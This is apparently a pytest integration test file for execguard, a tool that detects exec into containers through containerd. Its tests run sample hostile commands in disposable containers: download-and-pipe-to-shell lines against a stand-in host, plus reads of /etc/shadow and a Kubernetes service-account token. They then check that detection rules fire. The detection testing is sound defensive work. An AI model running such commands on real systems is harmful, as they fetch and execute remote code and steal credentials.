"""watch --containerd on the real containerd that the fixture's dockerd runs: docker exec and ctr task exec (no
Docker API, no API server) alert with their exact argv and labels, an exec gone before it was read still alerts,
a create carries the spec's args, and a containerd restart (dockerd restarts its own) is survived."""

from __future__ import annotations

import contextlib
import io
import signal
import subprocess
import sys
import tarfile
import threading
import time
import uuid
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import orjson
import pytest

from execguard.engine.load import load_rules
from execguard.engine.match import Engine
from execguard.live.containerd import ContainerdInput
from execguard.live.containerd_proc import EXITED
from execguard.live.inputs import EventStream, supervise
from execguard.live.metrics import Metrics
from execguard.live.runner import Detector, Runner
from execguard.model import Alert, Event
from execguard.sim.score import score
from execguard.testing.dockerd import IMAGE, Dockerd, DockerdUnavailable, busybox_rootfs_tar, start_dockerd, why_unavailable
from sinks_helpers import Collect

pytestmark = pytest.mark.docker
EXE = Path(sys.executable).parent / "execguard"
WAIT = 30.0
LABELS = {"io.kubernetes.pod.name": "web-1", "io.kubernetes.pod.namespace": "shop", "io.kubernetes.container.name": "app"}


def sock(d: Dockerd) -> Path:
    return d.exec_root / "containerd" / "containerd.sock"


def ctr(d: Dockerd, ns: str, *args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(["ctr", "--address", str(sock(d)), "--namespace", ns, *args], capture_output=True, text=True, timeout=WAIT)


class Watch:
    """watch's own runner with a ContainerdInput, as `execguard watch --containerd` wires it."""

    def __init__(self, d: Dockerd) -> None:
        self.metrics = Metrics()
        self.input = ContainerdInput(f"unix://{sock(d)}", metrics=self.metrics, node="node-a")
        self.sink = Collect()
        self.runner = Runner(Detector(Engine(load_rules([])), None, 0), self.sink, self.metrics, None, lambda m: None)
        self.thread = threading.Thread(target=self._loop, daemon=True)

    def _loop(self) -> None:
        while not self.runner.stop.is_set():
            self.runner.step(0.1)

    def __enter__(self) -> Watch:
        self.inputs = supervise(EventStream(self.input), self.runner.queue, self.runner.stop, lambda m: None)
        self.thread.start()
        assert self.input.connected.wait(WAIT), "the event stream did not open"
        return self

    def __exit__(self, *exc: object) -> None:
        self.runner.stop.set()
        self.thread.join(timeout=WAIT)
        self.inputs.join(timeout=WAIT)
        assert not self.thread.is_alive() and not self.inputs.is_alive()

    def primed(self, d: Dockerd, container: Any) -> None:
        """Wait until containerd delivers to us: the subscription is open at its end only once an event arrives."""
        deadline = time.monotonic() + WAIT
        while time.monotonic() < deadline:
            exec_id = f"prime-{uuid.uuid4().hex[:8]}"
            ctr(d, "moby", "task", "exec", "--exec-id", exec_id, container.id, "true")
            try:
                self.sink.wait_for(lambda a, e=exec_id: a.event.event_id == e, timeout=1.0)
                return
            except AssertionError:
                continue
        raise AssertionError("no runtime exec came through")


def _container(d: Dockerd, **kw: Any) -> Any:
    return d.client().containers.run(IMAGE, ["sleep", "300"], detach=True, network_mode="none", name=f"c-{uuid.uuid4().hex[:8]}", **kw)


@pytest.fixture
def watched(docker_daemon: Dockerd) -> Iterator[tuple[Watch, Any]]:
    c = _container(docker_daemon, labels=LABELS)
    try:
        with Watch(docker_daemon) as w:
            w.primed(docker_daemon, c)
            yield w, c
    finally:
        c.remove(force=True)


def test_docker_exec_alerts_with_exact_argv_process_and_rules(docker_daemon: Dockerd, watched: tuple[Watch, Any]) -> None:
    w, c = watched
    argv = ["sh", "-c", "echo 'two  words' ; cat /var/run/secrets/kubernetes.io/serviceaccount/token; sleep 1; true", "arg with space"]
    api = docker_daemon.client().api
    exec_id = api.exec_create(c.id, argv, workdir="/tmp")["Id"]
    api.exec_start(exec_id)
    alert = w.sink.wait_for(lambda a: a.event.event_id == exec_id)
    ev, p = alert.event, alert.event.process
    assert ev.action == "runtime_exec" and ev.source.format == "containerd" and ev.source.file == w.input.address
    assert ev.command == argv, p  # from /proc, NUL-separated: argv boundaries kept
    assert p is not None and p.exec_id == exec_id and p.pid and p.uid == 0 and p.cwd == "/tmp" and p.exe == "/bin/busybox"
    assert p.known == "" and p.in_init_tree is False and p.parent_exe and "containerd-shim" in p.parent_exe
    assert ev.target.container_id == c.id and ev.target.node == "node-a"
    assert ev.tty is False and ev.stdin is False  # fd 0 of a detached, non-interactive exec is /dev/null
    # Docker keeps its labels to itself: the moby containers in containerd carry none of them
    assert ev.target.pod is None
    assert {m.rule_id for m in alert.matches} >= {"runtime-exec", "cmd-credential-access"}
    assert alert.severity == "high"


def test_interactive_shell_is_seen_from_its_terminal(docker_daemon: Dockerd, watched: tuple[Watch, Any]) -> None:
    w, c = watched
    api = docker_daemon.client().api
    exec_id = api.exec_create(c.id, ["sh"], tty=True, stdin=True)["Id"]
    api.exec_start(exec_id, detach=True, tty=True)  # a shell on a terminal, waiting for someone to type
    alert = w.sink.wait_for(lambda a: a.event.event_id == exec_id)
    assert alert.event.command == ["sh"] and alert.event.tty is True and alert.event.stdin is True
    assert {m.rule_id for m in alert.matches} == {"runtime-exec", "k8s-exec-interactive-shell"} and alert.severity == "medium"


def test_ctr_exec_without_docker_or_api_server_is_seen(docker_daemon: Dockerd, watched: tuple[Watch, Any]) -> None:
    w, c = watched
    exec_id = f"ctr-{uuid.uuid4().hex[:8]}"
    argv = ["sh", "-c", "wget -q -T 1 -O - http://203.0.113.9/x.sh | sh; sleep 1; true"]
    r = ctr(docker_daemon, "moby", "task", "exec", "--exec-id", exec_id, c.id, *argv)
    assert r.returncode in (0, 1), r.stderr
    alert = w.sink.wait_for(lambda a: a.event.event_id == exec_id)
    assert alert.event.command == argv and alert.severity == "critical"
    assert "cmd-download-pipe-shell" in {m.rule_id for m in alert.matches}
    runtime = next(m for m in alert.matches if m.rule_id == "runtime-exec")
    assert runtime.reason.startswith(f"exec through the container runtime in container {c.id[:12]} node node-a (pid ")


@pytest.fixture
def rootfs(tmp_path: Path) -> Path:
    root = tmp_path / "rootfs"
    root.mkdir()
    with tarfile.open(fileobj=io.BytesIO(busybox_rootfs_tar())) as tar:
        tar.extractall(root)
    return root


def test_labelled_container_create_and_exec_carry_pod_labels(docker_daemon: Dockerd, watched: tuple[Watch, Any], rootfs: Path) -> None:
    """A container made through containerd itself (as the CRI plugin does), with the kubelet's labels."""
    w, _ = watched
    ns, cid = f"egtest-{uuid.uuid4().hex[:6]}", f"pod-{uuid.uuid4().hex[:8]}"
    payload = "apt-get update; wget -q -O - http://203.0.113.66/d.sh | sh; sleep 300"
    labels = [arg for k, v in LABELS.items() for arg in ("--label", f"{k}={v}")]
    r = ctr(docker_daemon, ns, "run", "-d", "--rootfs", "--env", "PATH=/bin", *labels, str(rootfs), cid, "sh", "-c", payload)
    assert r.returncode == 0, r.stderr
    try:
        create = w.sink.wait_for(lambda a: a.event.target.container_id == cid and a.event.action == "create")
        ev = create.event
        assert ev.command == ["sh", "-c", payload] and ev.command_origin == "container" and ev.verb == "create"
        assert (ev.target.namespace, ev.target.pod, ev.target.container) == ("shop", "web-1", "app")
        assert create.severity == "critical" and ev.process is None
        exec_id = f"x-{uuid.uuid4().hex[:8]}"
        r = ctr(docker_daemon, ns, "task", "exec", "--exec-id", exec_id, cid, "sh", "-c", "id; sleep 1; true")
        assert r.returncode == 0, r.stderr
        alert = w.sink.wait_for(lambda a: a.event.event_id == exec_id)
        assert (alert.event.target.namespace, alert.event.target.pod, alert.event.target.container) == ("shop", "web-1", "app")
        assert alert.event.command == ["sh", "-c", "id; sleep 1; true"] and alert.severity == "low"
        assert alert.lead.reason.startswith("exec through the container runtime in shop/web-1 container app")
        # the task's start after its create is not a second create
        time.sleep(0.3)
        assert len([a for a in w.sink.alerts if a.event.target.container_id == cid and a.event.action == "create"]) == 1
    finally:
        ctr(docker_daemon, ns, "task", "delete", "-f", cid)
        ctr(docker_daemon, ns, "containers", "rm", cid)
        ctr(docker_daemon, "default", "namespaces", "rm", ns)
        with contextlib.suppress(OSError):
            Path("/run/containerd/runc", ns).rmdir()  # the runc shim's state dir of our namespace, empty by now


def test_process_gone_before_read_alerts_with_argv_unknown(docker_daemon: Dockerd) -> None:
    """The input is held on one event while another exec runs and exits: by the time it is read, /proc has no trace."""
    c = _container(docker_daemon)
    inp = ContainerdInput(f"unix://{sock(docker_daemon)}")
    got: list[Event] = []
    holding, release = threading.Event(), threading.Event()

    def emit(ev: Event) -> None:
        got.append(ev)
        if ev.event_id and ev.event_id.startswith("hold-"):
            holding.set()
            release.wait(WAIT)

    stop = threading.Event()
    t = threading.Thread(target=inp.run, args=(emit, stop), daemon=True)
    t.start()
    try:
        assert inp.connected.wait(WAIT)
        deadline = time.monotonic() + WAIT
        while not holding.is_set() and time.monotonic() < deadline:
            ctr(docker_daemon, "moby", "task", "exec", "--exec-id", f"hold-{uuid.uuid4().hex[:6]}", c.id, "true")
            holding.wait(1.0)
        assert holding.is_set()
        quick = f"quick-{uuid.uuid4().hex[:6]}"
        r = ctr(docker_daemon, "moby", "task", "exec", "--exec-id", quick, c.id, "sh", "-c", "exit 0")
        assert r.returncode == 0, r.stderr
        release.set()
        deadline = time.monotonic() + WAIT
        while not any(e.event_id == quick for e in got) and time.monotonic() < deadline:
            time.sleep(0.05)
        [ev] = [e for e in got if e.event_id == quick]
        assert ev.command == [] and ev.process is not None and ev.process.known == EXITED
        [alert] = Engine(load_rules([])).run([ev])
        assert alert.lead.rule_id == "runtime-exec" and alert.lead.reason.endswith(f"argv unknown: {EXITED}")
    finally:
        release.set()
        stop.set()
        t.join(WAIT)
        c.remove(force=True)
    assert not t.is_alive()


@pytest.fixture
def own_daemon() -> Iterator[Dockerd]:
    """A daemon of this test's own: restarting the shared one would stop other tests' containers."""
    reason = why_unavailable()
    if reason:
        pytest.skip(reason)
    try:
        d = start_dockerd()
    except DockerdUnavailable as exc:
        pytest.skip(str(exc))
    try:
        yield d
    finally:
        d.stop()


def test_containerd_restart_is_survived_without_doubles(own_daemon: Dockerd) -> None:
    c1 = _container(own_daemon)
    with Watch(own_daemon) as w:
        w.primed(own_daemon, c1)
        before = f"before-{uuid.uuid4().hex[:6]}"
        ctr(own_daemon, "moby", "task", "exec", "--exec-id", before, c1.id, "sh", "-c", "echo before; sleep 0.5")
        w.sink.wait_for(lambda a: a.event.event_id == before)
        own_daemon.restart()  # dockerd stops and starts its containerd: the stream breaks, the socket comes back
        c2 = _container(own_daemon)
        w.primed(own_daemon, c2)
        after = f"after-{uuid.uuid4().hex[:6]}"
        ctr(own_daemon, "moby", "task", "exec", "--exec-id", after, c2.id, "sh", "-c", "echo after; sleep 0.5")
        w.sink.wait_for(lambda a: a.event.event_id == after)
        assert w.input.reconnects >= 1
        assert w.metrics.reconnects.labels(input=w.input.name())._value.get() >= 1
        assert w.metrics.gap_seconds.labels(input=w.input.name())._value.get() > 0
        ids = [a.event.event_id for a in w.sink.alerts if a.event.action == "runtime_exec"]
        assert ids.count(before) == 1 and ids.count(after) == 1
        assert len(ids) == len(set(ids))


def test_watch_command_with_containerd(docker_daemon: Dockerd, tmp_path: Path) -> None:
    out = tmp_path / "alerts.jsonl"
    cmd = [str(EXE), "watch", "--containerd", f"unix://{sock(docker_daemon)}", "-o", "jsonl", "--out", str(out)]
    proc = subprocess.Popen(cmd, stdin=subprocess.DEVNULL, stderr=subprocess.PIPE)
    c = _container(docker_daemon)
    try:
        deadline = time.monotonic() + WAIT
        ids: list[str] = []
        exec_id = ""
        while time.monotonic() < deadline:
            exec_id = f"cli-{uuid.uuid4().hex[:6]}"
            ctr(docker_daemon, "moby", "task", "exec", "--exec-id", exec_id, c.id, "sh", "-c", "cat /etc/shadow; sleep 0.5; true")
            time.sleep(0.3)
            ids = [orjson.loads(raw)["event_id"] for raw in out.read_bytes().splitlines()] if out.exists() else []
            if exec_id in ids:
                break
        assert exec_id in ids
        rec = next(orjson.loads(raw) for raw in out.read_bytes().splitlines() if orjson.loads(raw)["event_id"] == exec_id)
        assert rec["process"]["exe"] == "/bin/busybox" and rec["command"] == ["sh", "-c", "cat /etc/shadow; sleep 0.5; true"]
    finally:
        c.remove(force=True)
        proc.send_signal(signal.SIGTERM)
        _, err = proc.communicate(timeout=WAIT)
    assert proc.returncode == 0, err.decode()
    assert f"containerd unix://{sock(docker_daemon)}" in err.decode()


def test_bad_containerd_address_or_proc_is_one_line(tmp_path: Path) -> None:
    r = subprocess.run([str(EXE), "watch", "--containerd", "tcp://127.0.0.1:1"], capture_output=True, text=True, timeout=WAIT)
    assert r.returncode == 2 and r.stderr.strip().count("\n") == 0 and "unix socket" in r.stderr
    bad = [str(EXE), "watch", "--containerd", "/run/containerd/containerd.sock", "--proc", str(tmp_path)]
    r = subprocess.run(bad, capture_output=True, text=True, timeout=WAIT)
    assert r.returncode == 2 and r.stderr.strip().count("\n") == 0 and "not a proc file system" in r.stderr


def test_emulate_runtime_procedure_is_seen_and_scored(docker_daemon: Dockerd, tmp_path: Path) -> None:
    """emulate's containerd-level procedure (ctr, no Docker exec) against the real daemon; watch sees it; score joins it."""
    labels = tmp_path / "emu.jsonl"
    c = _container(docker_daemon)
    try:
        with Watch(docker_daemon) as w:
            w.primed(docker_daemon, c)
            r = subprocess.run([str(EXE), "emulate", "docker", "--host", docker_daemon.url, "--scenario", "runtime",
                                "--containerd", f"unix://{sock(docker_daemon)}", "--labels", str(labels)],
                               capture_output=True, text=True, timeout=120)  # fmt: skip
            assert r.returncode == 0, r.stderr
            rows = [orjson.loads(line) for line in labels.read_bytes().splitlines()]
            assert len(rows) == 4 and {row["scenario"] for row in rows} == {"runtime"}
            for row in rows:
                w.sink.wait_for(lambda a, e=row["exec_id"]: a.event.event_id == e)
            alerts = [_alert_dict(a) for a in w.sink.alerts if a.event.event_id in {row["exec_id"] for row in rows}]
    finally:
        c.remove(force=True)
    res = score(rows, alerts, "medium")
    assert (res.total.events, res.total.caught) == (4, 4) and res.total.precision == 1.0
    assert res.by_rule["cmd-miner"].caught == 1 and res.by_rule["cmd-remote-session"].caught >= 1


def _alert_dict(a: Alert) -> dict[str, Any]:
    from execguard.sinks.alert_json import alert_dict

    return alert_dict(a)


def test_exec_started_in_a_gap_and_still_running_is_found_once(docker_daemon: Dockerd) -> None:
    """The stream is closed and opened again (as after a containerd restart): an exec that started in between and
    still runs is listed from the tasks service; one reported before the gap is not reported again."""
    c = _container(docker_daemon)
    warnings: list[str] = []
    inp = ContainerdInput(f"unix://{sock(docker_daemon)}", warn=warnings.append)
    got: list[Event] = []

    def run_until(pred: Callable[[], bool]) -> None:
        stop = threading.Event()
        t = threading.Thread(target=inp.run, args=(got.append, stop), daemon=True)
        t.start()
        try:
            assert inp.connected.wait(WAIT)
            deadline = time.monotonic() + WAIT
            while not pred() and time.monotonic() < deadline:
                time.sleep(0.05)
            assert pred(), warnings
        finally:
            stop.set()
            t.join(WAIT)
        assert not t.is_alive()

    def seen(exec_id: str) -> int:
        return sum(e.event_id == exec_id for e in got)

    try:
        befores: list[str] = []

        def started_before() -> bool:
            if not any(seen(b) for b in befores):  # the first may come before the subscription is open: a new one then
                befores.append(f"long-{uuid.uuid4().hex[:6]}")
                ctr(docker_daemon, "moby", "task", "exec", "-d", "--exec-id", befores[-1], c.id, "sh", "-c", "sleep 60; true")
                time.sleep(0.5)
            return any(seen(b) for b in befores)

        run_until(started_before)
        gap = f"gap-{uuid.uuid4().hex[:6]}"
        r = ctr(docker_daemon, "moby", "task", "exec", "-d", "--exec-id", gap, c.id, "sh", "-c", "sleep 60; true")
        assert r.returncode == 0, r.stderr
        run_until(lambda: seen(gap) == 1)
        [ev] = [e for e in got if e.event_id == gap]
        assert ev.verb == "found_running" and ev.action == "runtime_exec" and ev.command == ["sh", "-c", "sleep 60; true"]
        assert ev.target.container_id == c.id and ev.process is not None and ev.process.exec_id == gap
        # every exec once: seen live, or (one that came too early for the first stream) found after the gap
        assert all(seen(b) == 1 for b in befores) and inp.caught_up == len(befores)
    finally:
        c.remove(force=True)
